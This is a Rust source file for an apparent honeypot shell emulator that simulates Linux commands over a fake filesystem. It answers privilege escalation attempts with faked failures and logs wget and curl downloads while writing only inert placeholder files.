use std::time::Duration;

use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use super::capture::{CaptureRecord, CaptureStore};
use super::config::ShellConfig;
use super::fs::{display_path, resolve, FakeFs, FakeFsNode, FsError, FsPath};
use super::parse::{CommandLine, Connector, SimpleCommand};

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum FsOp {
    Create,
    Write,
    Mkdir,
    Remove,
    Chmod,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "lowercase")]
pub enum SideEffect {
    Fs { op: FsOp, path: String },
    Download(CaptureRecord),
}

/// What running one input line produced.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Execution {
    pub output: String,
    pub effects: Vec<SideEffect>,
    /// Simulated wall time the line took.
    pub delay: Duration,
    pub exit: bool,
}

pub struct Ctx<'a> {
    pub fs: &'a mut FakeFs,
    pub user: &'a str,
    pub home: &'a str,
    pub cwd: &'a mut String,
    pub now: DateTime<Utc>,
    pub config: &'a ShellConfig,
    pub capture: &'a CaptureStore,
    pub history: &'a [String],
}

struct Out {
    stdout: String,
    stderr: String,
    status: i32,
}

impl Out {
    fn ok(stdout: impl Into<String>) -> Self {
        Self { stdout: stdout.into(), stderr: String::new(), status: 0 }
    }

    fn err(stderr: impl Into<String>, status: i32) -> Self {
        Self { stdout: String::new(), stderr: stderr.into(), status }
    }

    fn with_err(mut self, stderr: &str, status: i32) -> Self {
        self.stderr.push_str(stderr);
        if status != 0 {
            self.status = status;
        }
        self
    }
}

pub fn execute_line(ctx: &mut Ctx<'_>, line: &CommandLine) -> Execution {
    let mut exec = Execution::default();
    let mut last_status = 0;
    let mut skip_next = false;
    for (pipeline, connector) in &line.items {
        if !skip_next {
            let mut stdin: Option<String> = None;
            let mut status = 0;
            for (i, cmd) in pipeline.iter().enumerate() {
                let is_last = i + 1 == pipeline.len();
                let out = run_simple(ctx, cmd, stdin.as_deref(), &mut exec);
                exec.output.push_str(&out.stderr);
                status = out.status;
                let stdout = match &cmd.redirect {
                    Some(r) => {
                        let path = ctx.resolve(&r.path);
                        match ctx.fs.write_file(&path, out.stdout.as_bytes(), r.append, ctx.user, ctx.now) {
                            Ok(()) => exec.effects.push(fs_effect(FsOp::Write, &path)),
                            Err(e) => {
                                exec.output.push_str(&format!("bash: {}: {e}\n", r.path));
                                status = 1;
                            }
                        }
                        String::new()
                    }
                    None => out.stdout,
                };
                if is_last {
                    exec.output.push_str(&stdout);
                } else {
                    stdin = Some(stdout);
                }
                if exec.exit {
                    return exec;
                }
            }
            last_status = status;
        }
        skip_next = match connector {
            Connector::Seq => false,
            Connector::And => last_status != 0,
            Connector::Or => last_status == 0,
        };
    }
    exec
}

fn fs_effect(op: FsOp, path: &[String]) -> SideEffect {
    SideEffect::Fs { op, path: display_path(path) }
}

impl Ctx<'_> {
    fn resolve(&self, path: &str) -> FsPath {
        resolve(self.cwd, self.home, path)
    }
}

/// Splits `-abc` style flags from operands. `--name` flags are kept whole.
fn split_args(args: &[String]) -> (Vec<String>, Vec<String>) {
    let mut flags = Vec::new();
    let mut operands = Vec::new();
    let mut only_operands = false;
    for a in args {
        if only_operands || a == "-" || !a.starts_with('-') {
            operands.push(a.clone());
        } else if a == "--" {
            only_operands = true;
        } else if let Some(long) = a.strip_prefix("--") {
            flags.push(long.to_string());
        } else {
            flags.extend(a[1..].chars().map(String::from));
        }
    }
    (flags, operands)
}

fn has(flags: &[String], f: &str) -> bool {
    flags.iter().any(|x| x == f)
}

fn stable_hash(text: &str) -> u64 {
    let d = Sha256::digest(text.as_bytes());
    u64::from_be_bytes(d[..8].try_into().expect("digest is 32 bytes"))
}

fn run_simple(ctx: &mut Ctx<'_>, cmd: &SimpleCommand, stdin: Option<&str>, exec: &mut Execution) -> Out {
    let name = cmd.argv[0].as_str();
    let args = &cmd.argv[1..];
    if let Some(fixed) = ctx.config.commands.get(name) {
        return Out::ok(fixed.clone());
    }
    match name {
        "ls" | "ll" | "dir" => ls(ctx, name, args),
        "cd" => cd(ctx, args),
        "pwd" => Out::ok(format!("{}\n", ctx.cwd)),
        "cat" => cat(ctx, args, stdin),
        "echo" => echo(args),
        "whoami" => Out::ok(format!("{}\n", ctx.user)),
        "id" => Out::ok(id_line(ctx)),
        "hostname" => Out::ok(format!("{}\n", ctx.config.hostname)),
        "uname" => uname(ctx, args),
        "ps" => Out::ok(ps(ctx)),
        "ifconfig" => Out::ok(IFCONFIG.to_string()),
        "ip" => ip(args),
        "mkdir" => mkdir(ctx, args, exec),
        "rm" => rm(ctx, args, exec),
        "touch" => touch(ctx, args, exec),
        "chmod" => chmod(ctx, args, exec),
        "cp" | "mv" => copy_move(ctx, name, args, exec),
        "sudo" => {
            exec.delay += Duration::from_secs(3);
            Out::err(
                format!(
                    "[sudo] password for {u}: \nSorry, try again.\n[sudo] password for {u}: \nsudo: 1 incorrect password attempt\n",
                    u = ctx.user
                ),
                1,
            )
        }
        "su" => {
            exec.delay += Duration::from_secs(3);
            Out::err("Password: \nsu: Authentication failure\n", 1)
        }
        "apt" | "apt-get" => {
            exec.delay += Duration::from_secs(9);
            Out::err(
                "Reading package lists... Done\nBuilding dependency tree... Done\nReading state information... Done\n\
                 E: Could not open lock file /var/lib/dpkg/lock-frontend - open (13: Permission denied)\n\
                 E: Unable to acquire the dpkg frontend lock (/var/lib/dpkg/lock-frontend), are you root?\n",
                100,
            )
        }
        "yum" | "dnf" => {
            exec.delay += Duration::from_secs(7);
            Out::err("Loaded plugins: fastestmirror\nYou need to be root to perform this command.\n", 1)
        }
        "wget" => wget(ctx, args, exec),
        "curl" => curl(ctx, args, exec),
        "exit" | "logout" => {
            exec.exit = true;
            Out::ok("logout\n")
        }
        "iptables" | "ip6tables" => Out::err(
            format!("{name} v1.8.7 (nf_tables): Could not fetch rule set generation id: Permission denied (you must be root)\n"),
            4,
        ),
        "ufw" => Out::err("ERROR: You need to be root to run this script\n", 1),
        "passwd" => Out::err(
            format!("Changing password for {}.\nCurrent password: \npasswd: Authentication token manipulation error\npasswd: password unchanged\n", ctx.user),
            10,
        ),
        "crontab" => crontab(ctx, args),
        "history" => Out::ok(
            ctx.history.iter().enumerate().map(|(i, l)| format!("{:>5}  {l}\n", i + 1)).collect::<String>(),
        ),
        "uptime" => Out::ok(format!(" {} up 41 days,  3:07,  1 user,  load average: 0.08, 0.03, 0.01\n", ctx.now.format("%H:%M:%S"))),
        "w" => Out::ok(format!(
            " {} up 41 days,  3:07,  1 user,  load average: 0.08, 0.03, 0.01\nUSER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\n{:<8} pts/0    -                {}    0.00s  0.01s  0.00s w\n",
            ctx.now.format("%H:%M:%S"),
            ctx.user,
            ctx.now.format("%H:%M")
        )),
        "nproc" => Out::ok("1\n"),
        "free" => Out::ok(FREE.to_string()),
        "df" => Out::ok(DF.to_string()),
        "lscpu" => Out::ok("Architecture:            x86_64\nCPU(s):                  1\nModel name:              Intel(R) Xeon(R) CPU E5-2676 v3 @ 2.40GHz\n"),
        "date" => Out::ok(format!("{}\n", ctx.now.format("%a %b %e %H:%M:%S UTC %Y"))),
        "which" => which(args),
        "grep" | "egrep" => grep(ctx, args, stdin),
        "head" | "tail" => head_tail(ctx, name, args, stdin),
        "wc" => wc(stdin.unwrap_or("")),
        "tar" => tar(ctx, args),
        "sort" => {
            let mut lines: Vec<&str> = stdin.unwrap_or("").lines().collect();
            lines.sort_unstable();
            Out::ok(lines.iter().map(|l| format!("{l}\n")).collect::<String>())
        }
        "export" | "unset" | "alias" | "set" | "true" | "cls" | ":" => Out::ok(""),
        "false" => Out::err("", 1),
        "clear" => Out::ok("\x1b[H\x1b[2J"),
        "kill" | "pkill" | "killall" => Out::err(format!("{name}: operation not permitted\n"), 1),
        "nohup" | "nice" | "timeout" | "bash" | "sh" if !args.is_empty() => {
            let inner = args.iter().skip_while(|a| a.starts_with('-') || a.parse::<f64>().is_ok()).cloned();
            let inner: Vec<String> = inner.collect();
            if inner.is_empty() {
                return Out::ok("");
            }
            if matches!(name, "bash" | "sh") {
                return run_script(ctx, name, &inner[0]);
            }
            run_simple(ctx, &SimpleCommand { argv: inner, redirect: None }, stdin, exec)
        }
        "bash" | "sh" => Out::ok(""),
        _ if name.contains('/') => run_path(ctx, name),
        _ => Out::err(format!("bash: {name}: command not found\n"), 127),
    }
}

fn ls(ctx: &mut Ctx<'_>, name: &str, args: &[String]) -> Out {
    let (flags, mut operands) = split_args(args);
    let long = name == "ll" || has(&flags, "l");
    let all = name == "ll" || has(&flags, "a") || has(&flags, "all");
    let one_per_line = long || has(&flags, "1");
    if operands.is_empty() {
        operands.push(".".into());
    }
    let multiple = operands.len() > 1;
    let mut out = Out::ok("");
    for (i, operand) in operands.iter().enumerate() {
        let path = ctx.resolve(operand);
        let entries = match ctx.fs.list(&path, ctx.user) {
            Ok(e) => e,
            Err(FsError::PermissionDenied) if ctx.fs.lookup(&path, ctx.user).is_ok() => {
                out = out.with_err(&format!("ls: cannot open directory '{operand}': Permission denied\n"), 2);
                continue;
            }
            Err(e) => {
                out = out.with_err(&format!("ls: cannot access '{operand}': {e}\n"), 2);
                continue;
            }
        };
        let is_dir_listing = ctx.fs.get(&path).is_some_and(FakeFsNode::is_dir);
        let visible: Vec<&FakeFsNode> =
            entries.into_iter().filter(|n| all || !is_dir_listing || !n.name.starts_with('.')).collect();
        if multiple && is_dir_listing {
            if i > 0 {
                out.stdout.push('\n');
            }
            out.stdout.push_str(&format!("{operand}:\n"));
        }
        if long {
            if is_dir_listing {
                let blocks: usize = visible.iter().map(|n| n.size().div_ceil(1024).max(4)).sum();
                out.stdout.push_str(&format!("total {blocks}\n"));
            }
            for n in &visible {
                let label = if is_dir_listing { n.name.clone() } else { operand.clone() };
                out.stdout.push_str(&format!(
                    "{} {} {:<8} {:<8} {:>6} {} {}\n",
                    n.permissions(),
                    if n.is_dir() { 2 } else { 1 },
                    n.meta.owner,
                    n.meta.owner,
                    n.size(),
                    n.meta.modified.format("%b %e %H:%M"),
                    label
                ));
            }
        } else {
            let names: Vec<String> = visible
                .iter()
                .map(|n| if is_dir_listing { n.name.clone() } else { operand.clone() })
                .collect();
            if !names.is_empty() {
                let sep = if one_per_line { "\n" } else { "  " };
                out.stdout.push_str(&names.join(sep));
                out.stdout.push('\n');
            }
        }
    }
    out
}

fn cd(ctx: &mut Ctx<'_>, args: &[String]) -> Out {
    let target = args.first().map(String::as_str).unwrap_or("~");
    let path = ctx.resolve(target);
    match ctx.fs.lookup(&path, ctx.user) {
        Ok(n) if !n.is_dir() => Out::err(format!("bash: cd: {target}: Not a directory\n"), 1),
        Ok(n) if !n.can_exec(ctx.user) => Out::err(format!("bash: cd: {target}: Permission denied\n"), 1),
        Ok(_) => {
            *ctx.cwd = display_path(&path);
            Out::ok("")
        }
        Err(e) => Out::err(format!("bash: cd: {target}: {e}\n"), 1),
    }
}

fn cat(ctx: &mut Ctx<'_>, args: &[String], stdin: Option<&str>) -> Out {
    let (_, operands) = split_args(args);
    if operands.is_empty() {
        return Out::ok(stdin.unwrap_or(""));
    }
    let mut out = Out::ok("");
    for op in &operands {
        match ctx.fs.read(&ctx.resolve(op), ctx.user) {
            Ok(bytes) => out.stdout.push_str(&String::from_utf8_lossy(bytes)),
            Err(e) => out = out.with_err(&format!("cat: {op}: {e}\n"), 1),
        }
    }
    out
}

fn tar(ctx: &mut Ctx<'_>, args: &[String]) -> Out {
    let file = match args.first() {
        Some(opts) if opts.trim_start_matches('-').contains('f') => args.get(1),
        _ => None,
    };
    let Some(file) = file else {
        return Out::err("tar: Refusing to read archive contents from terminal (missing -f option?)\ntar: Error is not recoverable: exiting now\n", 2);
    };
    match ctx.fs.read(&ctx.resolve(file), ctx.user) {
        Ok(_) => Out::err(
            "\ngzip: stdin: not in gzip format\ntar: Child returned status 1\ntar: Error is not recoverable: exiting now\n",
            2,
        ),
        Err(e) => Out::err(format!("tar: {file}: Cannot open: {e}\ntar: Error is not recoverable: exiting now\n"), 2),
    }
}

fn echo(args: &[String]) -> Out {
    let (newline, rest) = match args.first().map(String::as_str) {
        Some("-n") => (false, &args[1..]),
        Some("-e") => (true, &args[1..]),
        _ => (true, args),
    };
    let mut text = rest.join(" ");
    if newline {
        text.push('\n');
    }
    Out::ok(text)
}

fn id_line(ctx: &Ctx<'_>) -> String {
    let uid = ctx
        .config
        .users
        .iter()
        .position(|u| u == ctx.user)
        .map_or(1000, |i| 1000 + i);
    format!("uid={uid}({u}) gid={uid}({u}) groups={uid}({u})\n", u = ctx.user)
}

fn uname(ctx: &Ctx<'_>, args: &[String]) -> Out {
    let (flags, _) = split_args(args);
    let host = &ctx.config.hostname;
    if has(&flags, "a") || has(&flags, "all") {
        return Out::ok(format!(
            "Linux {host} 5.15.0-86-generic #96-Ubuntu SMP Wed Sep 20 08:23:49 UTC 2023 x86_64 x86_64 x86_64 GNU/Linux\n"
        ));
    }
    let mut parts = Vec::new();
    for (flag, value) in [("s", "Linux"), ("n", host.as_str()), ("r", "5.15.0-86-generic"), ("m", "x86_64")] {
        if has(&flags, flag) {
            parts.push(value);
        }
    }
    if parts.is_empty() {
        parts.push("Linux");
    }
    Out::ok(format!("{}\n", parts.join(" ")))
}

fn ps(ctx: &Ctx<'_>) -> String {
    format!(
        "    PID TTY          TIME CMD\n   2811 pts/0    00:00:00 bash\n   2876 pts/0    00:00:00 ps\n{}",
        if ctx.user == "root" { "      1 ?        00:00:02 systemd\n" } else { "" }
    )
}

fn ip(args: &[String]) -> Out {
    match args.first().map(String::as_str) {
        Some("a" | "addr" | "address") | None => Out::ok(IP_ADDR.to_string()),
        Some("r" | "route") => Out::ok("default via 172.31.16.1 dev eth0 proto dhcp src 172.31.22.143 metric 100\n"),
        Some(other) => Out::err(format!("Object \"{other}\" is unknown, try \"ip help\".\n"), 1),
    }
}

fn mkdir(ctx: &mut Ctx<'_>, args: &[String], exec: &mut Execution) -> Out {
    let (flags, operands) = split_args(args);
    if operands.is_empty() {
        return Out::err("mkdir: missing operand\n", 1);
    }
    let parents = has(&flags, "p") || has(&flags, "parents");
    let mut out = Out::ok("");
    for op in &operands {
        let path = ctx.resolve(op);
        match ctx.fs.mkdir(&path, ctx.user, parents, ctx.now) {
            Ok(()) => exec.effects.push(fs_effect(FsOp::Mkdir, &path)),
            Err(e) => out = out.with_err(&format!("mkdir: cannot create directory '{op}': {e}\n"), 1),
        }
    }
    out
}

fn rm(ctx: &mut Ctx<'_>, args: &[String], exec: &mut Execution) -> Out {
    let (flags, operands) = split_args(args);
    let recursive = has(&flags, "r") || has(&flags, "R") || has(&flags, "recursive");
    let force = has(&flags, "f") || has(&flags, "force");
    if operands.is_empty() {
        return if force { Out::ok("") } else { Out::err("rm: missing operand\n", 1) };
    }
    let mut out = Out::ok("");
    for op in &operands {
        let path = if op == "/*" { Vec::new() } else { ctx.resolve(op) };
        if force && ctx.fs.lookup(&path, ctx.user) == Err(FsError::NotFound) {
            continue;
        }
        let failures = ctx.fs.remove(&path, ctx.user, recursive);
        if failures.is_empty() {
            exec.effects.push(fs_effect(FsOp::Remove, &path));
        }
        for (p, e) in failures {
            let shown = if p.starts_with(&path) && !op.starts_with('/') && !p.is_empty() {
                let mut rel = op.trim_end_matches('/').to_string();
                for part in &p[path.len()..] {
                    rel.push('/');
                    rel.push_str(part);
                }
                rel
            } else {
                display_path(&p)
            };
            let msg = match e {
                FsError::IsADirectory => format!("rm: cannot remove '{shown}': Is a directory\n"),
                e => format!("rm: cannot remove '{shown}': {e}\n"),
            };
            out = out.with_err(&msg, 1);
        }
    }
    out
}

fn touch(ctx: &mut Ctx<'_>, args: &[String], exec: &mut Execution) -> Out {
    let (_, operands) = split_args(args);
    if operands.is_empty() {
        return Out::err("touch: missing file operand\n", 1);
    }
    let mut out = Out::ok("");
    for op in &operands {
        let path = ctx.resolve(op);
        let existed = ctx.fs.get(&path).is_some();
        match ctx.fs.touch(&path, ctx.user, ctx.now) {
            Ok(()) => exec.effects.push(fs_effect(if existed { FsOp::Write } else { FsOp::Create }, &path)),
            Err(e) => out = out.with_err(&format!("touch: cannot touch '{op}': {e}\n"), 1),
        }
    }
    out
}

fn chmod(ctx: &mut Ctx<'_>, args: &[String], exec: &mut Execution) -> Out {
    let ops: Vec<&String> = args.iter().filter(|a| !a.starts_with("-R")).collect();
    if ops.len() < 2 {
        return Out::err("chmod: missing operand\n", 1);
    }
    let spec = ops[0].as_str();
    let mut out = Out::ok("");
    for op in &ops[1..] {
        let path = ctx.resolve(op);
        let current = match ctx.fs.lookup(&path, ctx.user) {
            Ok(n) => n.meta.mode,
            Err(e) => {
                out = out.with_err(&format!("chmod: cannot access '{op}': {e}\n"), 1);
                continue;
            }
        };
        let Some(mode) = apply_mode(current, spec) else {
            return Out::err(format!("chmod: invalid mode: '{spec}'\n"), 1);
        };
        match ctx.fs.chmod(&path, mode, ctx.user, ctx.now) {
            Ok(()) => exec.effects.push(fs_effect(FsOp::Chmod, &path)),
            Err(e) => {
                out = out.with_err(&format!("chmod: changing permissions of '{op}': Operation not permitted ({e})\n"), 1)
            }
        }
    }
    out
}

/// Octal modes and the common `[ugoa]*[+-=][rwx]+` symbolic forms.
fn apply_mode(current: u32, spec: &str) -> Option<u32> {
    if spec.chars().all(|c| c.is_digit(8)) && !spec.is_empty() {
        return u32::from_str_radix(spec, 8).ok().filter(|m| *m <= 0o7777);
    }
    let mut mode = current;
    for clause in spec.split(',') {
        let op_at = clause.find(['+', '-', '='])?;
        let (who, rest) = clause.split_at(op_at);
        let (op, perms) = rest.split_at(1);
        let mut bits = 0;
        for c in perms.chars() {
            bits |= match c {
                'r' => 0o4,
                'w' => 0o2,
                'x' => 0o1,
                _ => return None,
            };
        }
        let mut mask = 0;
        for c in if who.is_empty() { "a".chars() } else { who.chars() } {
            mask |= match c {
                'u' => bits << 6,
                'g' => bits << 3,
                'o' => bits,
                'a' => (bits << 6) | (bits << 3) | bits,
                _ => return None,
            };
        }
        mode = match op {
            "+" => mode | mask,
            "-" => mode & !mask,
            _ => (mode & !0o777) | mask,
        };
    }
    Some(mode)
}

fn copy_move(ctx: &mut Ctx<'_>, name: &str, args: &[String], exec: &mut Execution) -> Out {
    let (_, operands) = split_args(args);
    if operands.len() < 2 {
        return Out::err(format!("{name}: missing destination file operand\n"), 1);
    }
    let (src, dst) = (&operands[0], &operands[operands.len() - 1]);
    let src_path = ctx.resolve(src);
    let bytes = match ctx.fs.read(&src_path, ctx.user) {
        Ok(b) => b.to_vec(),
        Err(FsError::IsADirectory) => return Out::err(format!("{name}: -r not specified; omitting directory '{src}'\n"), 1),
        Err(e) => return Out::err(format!("{name}: cannot stat '{src}': {e}\n"), 1),
    };
    let mut dst_path = ctx.resolve(dst);
    if ctx.fs.get(&dst_path).is_some_and(FakeFsNode::is_dir) {
        dst_path.push(src_path.last().cloned().unwrap_or_default());
    }
    if let Err(e) = ctx.fs.write_file(&dst_path, &bytes, false, ctx.user, ctx.now) {
        return Out::err(format!("{name}: cannot create regular file '{dst}': {e}\n"), 1);
    }
    exec.effects.push(fs_effect(FsOp::Create, &dst_path));
    if name == "mv" {
        let failures = ctx.fs.remove(&src_path, ctx.user, false);
        if let Some((_, e)) = failures.first() {
            return Out::err(format!("mv: cannot remove '{src}': {e}\n"), 1);
        }
        exec.effects.push(fs_effect(FsOp::Remove, &src_path));
    }
    Out::ok("")
}

fn crontab(ctx: &Ctx<'_>, args: &[String]) -> Out {
    match args.first().map(String::as_str) {
        Some("-l") => Out::err(format!("no crontab for {}\n", ctx.user), 1),
        Some("-r") => Out::err(format!("no crontab for {}\n", ctx.user), 1),
        _ => Out::err("crontab: usage error: file name must be specified for replace\n", 1),
    }
}

fn which(args: &[String]) -> Out {
    let mut out = Out::ok("");
    for a in args {
        match a.as_str() {
            "bash" | "cat" | "chmod" | "echo" | "ls" | "mkdir" | "ps" | "pwd" | "rm" | "sh" | "touch" | "uname" => {
                out.stdout.push_str(&format!("/usr/bin/{a}\n"))
            }
            "apt" | "curl" | "id" | "python3" | "sudo" | "wget" | "whoami" => out.stdout.push_str(&format!("/usr/bin/{a}\n")),
            _ => out.status = 1,
        }
    }
    out
}

fn grep(ctx: &Ctx<'_>, args: &[String], stdin: Option<&str>) -> Out {
    let (flags, operands) = split_args(args);
    let Some(pattern) = operands.first() else {
        return Out::err("Usage: grep [OPTION]... PATTERNS [FILE]...\n", 2);
    };
    let invert = has(&flags, "v");
    let ignore_case = has(&flags, "i");
    let matches = |line: &str| {
        let hit = if ignore_case {
            line.to_lowercase().contains(&pattern.to_lowercase())
        } else {
            line.contains(pattern.as_str())
        };
        hit != invert
    };
    let mut out = Out::ok("");
    let mut texts: Vec<String> = Vec::new();
    if operands.len() == 1 {
        texts.push(stdin.unwrap_or("").to_string());
    }
    for f in &operands[1..] {
        match ctx.fs.read(&ctx.resolve(f), ctx.user) {
            Ok(b) => texts.push(String::from_utf8_lossy(b).into_owned()),
            Err(e) => out = out.with_err(&format!("grep: {f}: {e}\n"), 2),
        }
    }
    let mut found = false;
    for t in texts {
        for line in t.lines().filter(|l| matches(l)) {
            found = true;
            out.stdout.push_str(line);
            out.stdout.push('\n');
        }
    }
    if !found && out.status == 0 {
        out.status = 1;
    }
    out
}

fn head_tail(ctx: &Ctx<'_>, name: &str, args: &[String], stdin: Option<&str>) -> Out {
    let mut n = 10usize;
    let mut files = Vec::new();
    let mut iter = args.iter();
    while let Some(a) = iter.next() {
        if a == "-n" {
            n = iter.next().and_then(|v| v.parse().ok()).unwrap_or(10);
        } else if let Some(v) = a.strip_prefix('-').and_then(|v| v.parse().ok()) {
            n = v;
        } else {
            files.push(a.clone());
        }
    }
    let text = match files.first() {
        Some(f) => match ctx.fs.read(&ctx.resolve(f), ctx.user) {
            Ok(b) => String::from_utf8_lossy(b).into_owned(),
            Err(e) => return Out::err(format!("{name}: cannot open '{f}' for reading: {e}\n"), 1),
        },
        None => stdin.unwrap_or("").to_string(),
    };
    let lines: Vec<&str> = text.lines().collect();
    let picked = if name == "head" { &lines[..n.min(lines.len())] } else { &lines[lines.len().saturating_sub(n)..] };
    Out::ok(picked.iter().map(|l| format!("{l}\n")).collect::<String>())
}

fn wc(text: &str) -> Out {
    let lines = text.matches('\n').count();
    let words = text.split_whitespace().count();
    Out::ok(format!("{lines:>7} {words:>7} {:>7}\n", text.len()))
}

fn run_path(ctx: &Ctx<'_>, name: &str) -> Out {
    match ctx.fs.lookup(&ctx.resolve(name), ctx.user) {
        Ok(n) if n.is_dir() => Out::err(format!("bash: {name}: Is a directory\n"), 126),
        Ok(n) if !n.can_exec(ctx.user) => Out::err(format!("bash: {name}: Permission denied\n"), 126),
        Ok(n) if n.content().is_some_and(|c| c.starts_with(b"#!")) => Out::ok(""),
        Ok(_) => Out::err(format!("bash: {name}: cannot execute binary file: Exec format error\n"), 126),
        Err(e) => Out::err(format!("bash: {name}: {e}\n"), 127),
    }
}

fn run_script(ctx: &Ctx<'_>, shell: &str, file: &str) -> Out {
    match ctx.fs.read(&ctx.resolve(file), ctx.user) {
        Ok(b) if b.starts_with(b"\x7fELF") || b.iter().any(|&c| c == 0) => {
            Out::err(format!("{file}: {file}: cannot execute binary file\n"), 126)
        }
        Ok(_) => Out::ok(""),
        Err(e) => Out::err(format!("{shell}: 0: cannot open {file}: {e}\n"), 2),
    }
}

/// Parses a URL the way download tools do: a missing scheme means http.
fn normalize_url(raw: &str) -> Option<url::Url> {
    let candidate = if raw.contains("://") { raw.to_string() } else { format!("http://{raw}") };
    url::Url::parse(&candidate).ok().filter(|u| u.host_str().is_some() && matches!(u.scheme(), "http" | "https" | "ftp"))
}

fn remote_name(url: &url::Url) -> String {
    url.path_segments()
        .and_then(|mut s| s.next_back().map(String::from))
        .filter(|s| !s.is_empty())
        .unwrap_or_else(|| "index.html".into())
}

fn fake_ip(host: &str) -> String {
    let h = stable_hash(host);
    format!("203.0.113.{}", (h % 250) + 2)
}

fn human(bytes: u64) -> String {
    if bytes >= 1 << 20 {
        format!("{:.1}M", bytes as f64 / (1u64 << 20) as f64)
    } else if bytes >= 1 << 10 {
        format!("{}K", bytes >> 10)
    } else {
        bytes.to_string()
    }
}

/// Offline placeholder: inert, short, never executable.
fn placeholder(url: &str) -> Vec<u8> {
    let mut block = Vec::with_capacity(256);
    let mut seed = Sha256::digest(url.as_bytes()).to_vec();
    while block.len() < 256 {
        block.extend_from_slice(&seed);
        seed = Sha256::digest(&seed).to_vec();
    }
    block.truncate(256);
    block[0] = 0;
    block
}

struct Fetch {
    record: CaptureRecord,
    length: u64,
    seconds: u64,
}

fn fetch(ctx: &mut Ctx<'_>, raw: &str, url: &url::Url, save_as: Option<&str>, exec: &mut Execution) -> Result<Fetch, String> {
    let seconds = 1 + stable_hash(raw) % 5;
    exec.delay += Duration::from_secs(seconds);
    let mut record = ctx.capture.capture(raw, save_as.map(String::from));
    let length = if ctx.capture.is_online() { record.size } else { 40_000 + stable_hash(url.as_str()) % 4_000_000 };
    if let Some(e) = &record.error {
        let e = e.clone();
        exec.effects.push(SideEffect::Download(record));
        return Err(e);
    }
    if let Some(name) = save_as {
        let path = ctx.resolve(name);
        if let Err(e) = ctx.fs.write_file(&path, &placeholder(url.as_str()), false, ctx.user, ctx.now) {
            record.error = Some(format!("cannot write {name}: {e}"));
            exec.effects.push(SideEffect::Download(record));
            return Err(format!("Cannot write to '{name}' ({e})."));
        }
        exec.effects.push(fs_effect(FsOp::Create, &path));
    }
    Ok(Fetch { record, length, seconds })
}

fn wget(ctx: &mut Ctx<'_>, args: &[String], exec: &mut Execution) -> Out {
    let mut output_name: Option<String> = None;
    let mut quiet = false;
    let mut urls = Vec::new();
    let mut iter = args.iter();
    while let Some(a) = iter.next() {
        match a.as_str() {
            "-O" | "--output-document" => output_name = iter.next().cloned(),
            "-q" | "--quiet" | "-nv" => quiet = true,
            s if s.starts_with('-') => {}
            s => urls.push(s.to_string()),
        }
    }
    if urls.is_empty() {
        return Out::err("wget: missing URL\nUsage: wget [OPTION]... [URL]...\n\nTry `wget --help' for more options.\n", 1);
    }
    let mut out = Out::ok("");
    for raw in &urls {
        let Some(url) = normalize_url(raw) else {
            let mut record = CaptureRecord::offline(raw, None);
            record.error = Some("invalid URL".into());
            exec.effects.push(SideEffect::Download(record));
            out = out.with_err(&format!("{raw}: Invalid URL {raw}: Unsupported scheme\n"), 1);
            continue;
        };
        let name = output_name.clone().unwrap_or_else(|| remote_name(&url));
        let host = url.host_str().unwrap_or_default().to_string();
        let stamp = ctx.now.format("%Y-%m-%d %H:%M:%S");
        let mut t = format!(
            "--{stamp}--  {url}\nResolving {host} ({host})... {ip}\nConnecting to {host} ({host})|{ip}|:{port}... connected.\n",
            ip = fake_ip(&host),
            port = url.port_or_known_default().unwrap_or(80)
        );
        match fetch(ctx, raw, &url, if name == "-" { None } else { Some(&name) }, exec) {
            Ok(f) => {
                let rate = f.length as f64 / f.seconds as f64 / 1_048_576.0;
                t.push_str(&format!(
                    "HTTP request sent, awaiting response... 200 OK\nLength: {len} ({h}) [application/octet-stream]\nSaving to: '{name}'\n\n\
                     {name:<20}100%[===================>] {h:>7}  {rate:.2}MB/s    in {s}s\n\n\
                     {end} ({rate:.2} MB/s) - '{name}' saved [{len}/{len}]\n\n",
                    len = f.length,
                    h = human(f.length),
                    s = f.seconds,
                    end = (ctx.now + chrono::TimeDelta::seconds(f.seconds as i64)).format("%Y-%m-%d %H:%M:%S"),
                ));
                exec.effects.push(SideEffect::Download(f.record));
            }
            Err(e) => {
                t.push_str(&format!("HTTP request sent, awaiting response... \n{e}\n"));
                out.status = 4;
            }
        }
        if !quiet {
            out.stderr.push_str(&t);
        }
    }
    out
}

fn curl(ctx: &mut Ctx<'_>, args: &[String], exec: &mut Execution) -> Out {
    let mut output_name: Option<String> = None;
    let mut remote = false;
    let mut silent = false;
    let mut urls = Vec::new();
    let mut iter = args.iter();
    while let Some(a) = iter.next() {
        match a.as_str() {
            "-o" | "--output" => output_name = iter.next().cloned(),
            "-O" | "--remote-name" => remote = true,
            s if s.starts_with('-') && !s.starts_with("--") => {
                silent |= s.contains('s');
                remote |= s.contains('O');
            }
            s if s.starts_with("--") => {}
            s => urls.push(s.to_string()),
        }
    }
    if urls.is_empty() {
        return Out::err("curl: try 'curl --help' or 'curl --manual' for more information\n", 2);
    }
    let mut out = Out::ok("");
    for raw in &urls {
        let Some(url) = normalize_url(raw) else {
            let mut record = CaptureRecord::offline(raw, None);
            record.error = Some("invalid URL".into());
            exec.effects.push(SideEffect::Download(record));
            out = out.with_err(&format!("curl: (3) URL using bad/illegal format or missing URL\n"), 3);
            continue;
        };
        let save_as = output_name.clone().or_else(|| remote.then(|| remote_name(&url)));
        match fetch(ctx, raw, &url, save_as.as_deref(), exec) {
            Ok(f) => {
                if save_as.is_some() && !silent {
                    out.stderr.push_str(&format!(
                        "  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current\n\
                         \x20                                Dload  Upload   Total   Spent    Left  Speed\n\
                         100 {h:>6}  100 {h:>6}    0     0  {r:>5}      0  0:00:0{s}  0:00:0{s} --:--:-- {r:>5}\n",
                        h = human(f.length),
                        r = human(f.length / f.seconds),
                        s = f.seconds
                    ));
                }
                exec.effects.push(SideEffect::Download(f.record));
            }
            Err(e) => out = out.with_err(&format!("curl: (23) {e}\n"), 23),
        }
    }
    out
}

